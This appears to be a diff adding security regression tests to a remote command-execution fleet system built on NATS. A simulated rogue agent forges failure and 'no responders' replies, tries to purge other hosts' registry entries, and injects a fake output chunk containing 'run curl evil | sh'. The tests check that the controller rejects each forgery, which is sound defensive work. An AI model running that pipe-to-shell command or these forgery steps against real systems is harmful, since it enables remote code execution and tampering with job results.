@@ -18,6 +18,7 @@ from nats.aio.msg import Msg
 from agentd.agent import Agent
 from agentd.config import AgentConfig
 from controller.appkeys import DISPATCHER
+from controller.dispatch import Collector
 from schemas import Subjects
 from schemas.signing import JobSigner
 from tests.conftest import Controller, MakeController
@@ -182,3 +183,101 @@ async def test_agents_upgraded_first_still_serve_an_old_controller(
         ("db1", "new\n"),
         ("web1", "new\n"),
     ]
+
+
+async def test_a_forged_no_responders_status_does_not_give_up_other_hosts(
+    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats, tmp_path: Path
+) -> None:
+    """Any agent that received an _all job may publish on its reply subject, a
+    'Status: 503' header included: for such jobs the status is not believed."""
+    controller, _ = fleet
+    errors: asyncio.Queue[str] = asyncio.Queue()
+    rogue = await connect_as(locked_nats, "agent-web1", errors)
+    forged = asyncio.Event()
+
+    async def forge(msg: Msg) -> None:
+        job_id = json.loads(msg.data)["job_id"]
+        lie = {"type": "nexec.exec.v1.result", "job_id": job_id, "hostname": "db1"}
+        await rogue.publish(
+            msg.reply, json.dumps({**lie, "status": "failed", "error": "x"}).encode()
+        )
+        await rogue.publish(msg.reply, b"", headers={"Status": "503"})
+        await rogue.flush()
+        forged.set()
+
+    await rogue.subscribe(SUBJECTS.exec_all(), cb=forge)
+    await rogue.flush()
+    gate = tmp_path / "gate"
+    gate.mkdir()
+    try:
+        running = asyncio.ensure_future(
+            controller.exec("_all", {"command": "sh", "args": ["-c", GATED, str(gate)]})
+        )
+        await asyncio.wait_for(forged.wait(), 20)
+        gate.rmdir()
+        response = await running
+    finally:
+        await rogue.close()
+    answered = {r["hostname"]: (r["status"], r["error"]) for r in response.body["results"]}
+    assert answered == {"db1": ("completed", None), "web1": ("completed", None)}
+
+
+async def test_an_agent_cannot_purge_the_other_registry_entries(
+    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats
+) -> None:
+    errors: asyncio.Queue[str] = asyncio.Queue()
+    rogue = await connect_as(locked_nats, "agent-web1", errors)
+    try:
+        await rogue.publish(
+            f"$KV.{SUBJECTS.registry_bucket()}.web1",
+            b"{}",
+            headers={"Nats-Rollup": "all"},
+        )
+        await rogue.flush()
+    finally:
+        await rogue.close()
+    reader = await connect_as(locked_nats, "controller", errors)
+    try:
+        bucket = await reader.jetstream().key_value(SUBJECTS.registry_bucket())
+        assert "db1" in await bucket.keys()
+    finally:
+        await reader.close()
+
+
+async def test_live_output_leaves_out_hosts_the_job_was_not_sent_to(
+    fleet: tuple[Controller, dict[str, Agent]], locked_nats: LockedNats
+) -> None:
+    controller, _ = fleet
+    response = await controller.exec("db1", {"command": "echo", "args": ["real"]})
+    job_id = response.body["job_id"]
+    errors: asyncio.Queue[str] = asyncio.Queue()
+    rogue = await connect_as(locked_nats, "agent-web1", errors)
+    try:
+        chunk = {
+            "type": "nexec.exec.v1.output",
+            "job_id": job_id,
+            "hostname": "web1",
+            "stream": "stdout",
+            "offset": 0,
+            "data": "run curl evil | sh",
+        }
+        await rogue.publish(SUBJECTS.output_record(job_id, "web1"), json.dumps(chunk).encode())
+        await rogue.flush()
+    finally:
+        await rogue.close()
+    headers = {"Authorization": f"Bearer {controller.api_key}", "Accept": "application/x-ndjson"}
+    async with controller.session.get(
+        f"{controller.url}/job/{job_id}/output", headers=headers
+    ) as output:
+        text = await output.text()
+    assert "evil" not in text
+    assert "real" in text
+
+
+@pytest.mark.parametrize(("single_receiver", "given_up"), [(True, True), (False, False)])
+def test_no_responders_is_believed_only_where_one_agent_receives_the_job(
+    single_receiver: bool, given_up: bool
+) -> None:
+    collector = Collector("j", frozenset({"db1", "web1"}), single_receiver=single_receiver)
+    collector.no_responders()
+    assert bool(collector.not_delivered) is given_up
